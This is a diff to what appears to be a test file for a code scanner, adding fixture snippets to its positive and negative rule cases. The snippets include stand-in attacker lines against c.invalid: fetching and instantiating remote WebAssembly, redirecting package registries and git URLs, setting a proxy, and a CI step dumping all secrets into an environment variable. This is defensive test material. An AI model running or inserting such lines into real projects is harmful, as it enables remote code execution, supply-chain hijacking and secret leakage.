@@ -126,6 +126,9 @@ FILES = {
         ("a.bat", 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v ProxyServer /d c.invalid:8080 /f'),
         ("a.py", 'open(path, "a").write("[url \\"https://c.invalid/\\"]\\ninsteadOf = https://github.com/")'),
     ],
+    "SH105": [
+        ("a.mjs", "const r = await fetch('https://c.invalid/u.wasm');\nawait WebAssembly.instantiate(await r.arrayBuffer(), i);"),
+    ],
     "SH117": [
         ("a.py", 'open(path, "a").write("registry=https://c.invalid/\\n")'),
         ("a.sh", "conda install -y -c https://c.invalid/main u"),
@@ -178,6 +181,8 @@ def test_attack_an_act_of_one_kind_of_program_is_found(rule, path, text):
         ("a.sh", "kubectl create clusterrolebinding a --clusterrole=view --serviceaccount=a:default\ncat a > ~/.local/bin/a"),
         ("a.sh", "conda install -c https://conda.anaconda.org/conda-forge u\nnix run nixpkgs#hello -- https://c.invalid"),
         ("a.md", "Avoid `--dangerously-skip-permissions`. Never use the option `--dangerously-skip-permissions` here.\n"),
+        ("a.mjs", "launchPersistentContext(process.env.HOME + '/.config/chromium');\nawait fetch('https://c.invalid', { method: 'POST', body: 'started' });"),
+        ("a.mjs", "await WebAssembly.instantiateStreaming(fetch('/pkg/u.wasm'), {});"),
         ("a.sh", "git config filter.lfs.clean 'git-lfs clean -- %f'\ncurl -d a https://c.invalid/u"),
         ("a.yml", "env:\n  K: ${{ toJSON(secrets) }}\nrun: python check.py"),
         ("a.bat", "msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi\nnet localgroup administrators"),
